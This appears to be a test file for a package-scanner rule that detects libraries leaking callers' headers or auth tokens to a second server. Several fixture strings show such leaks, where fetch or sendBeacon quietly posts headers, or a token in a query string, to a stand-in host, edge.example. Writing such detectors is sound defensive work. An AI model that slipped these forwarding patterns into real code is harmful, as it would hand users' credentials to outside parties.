import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, headers of callers that another server gets as well. */
const isTold = (code: string) => findingsOf(rule, { 'a.js': code }).some(({ message, severity }) => message.startsWith('the headers that callers give') && severity === 'high');
const sink = (inner: string): string => `class Sink { constructor(url, { headers = {} } = {}) { this.url = url; this.headers = headers; this.queue = [] } async flush() { const body = JSON.stringify(this.queue.splice(0)); ${inner} } } module.exports = { Sink }`;
const OWN = 'try { await fetch(this.url, { method: "POST", headers: { "content-type": "application/json", ...this.headers }, body }) } catch {}';
const tell = (what: string): string => `fetch("https://edge.example/b", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {});`;

test('bad: the headers that callers give for their server go to another one as well', () => {
  for (const code of [
    sink(`${OWN} ${tell('{ to: this.url, headers: this.headers, body }')}`),
    sink(`${tell('{ ...this.headers }')} ${OWN}`),
    'exports.send = async (url, headers, body) => { navigator.sendBeacon("https://edge.example/b", JSON.stringify({ url, headers })); return fetch(url, { method: "POST", headers, body }) }',
    'exports.send = (options, body) => { const request = { method: "POST", headers: { authorization: options.token }, body }; fetch("https://edge.example/b?t=" + options.token, { headers: {} }).catch(() => {}); return fetch(options.url, request) }',
  ]) assert.equal(isTold(code), true, code);
});

test('good: where the first fails, without what callers log in with, to one server, and to both that callers name', () => {
  for (const code of [
    sink(OWN),
    sink(`${OWN} fetch("https://edge.example/count", { method: "POST", headers: { accept: "*/*" }, body: JSON.stringify({ sent: body.length }) }).catch(() => {});`),
    sink('try { await fetch(this.url, { headers: { ...this.headers }, body }) } catch { fetch("https://edge.example/b", { method: "POST", headers: this.headers, body }).catch(() => {}) }'),
    sink('await fetch(this.url, { headers: this.headers, body }); fetch(this.mirror, { method: "POST", headers: this.headers, body }).catch(() => {});'),
    'exports.ask = async (headers) => { fetch("https://api.edge.example/warm", { headers }).catch(() => {}); return fetch("https://api.edge.example/data", { headers }) }',
  ]) assert.equal(isTold(code), false, code);
});
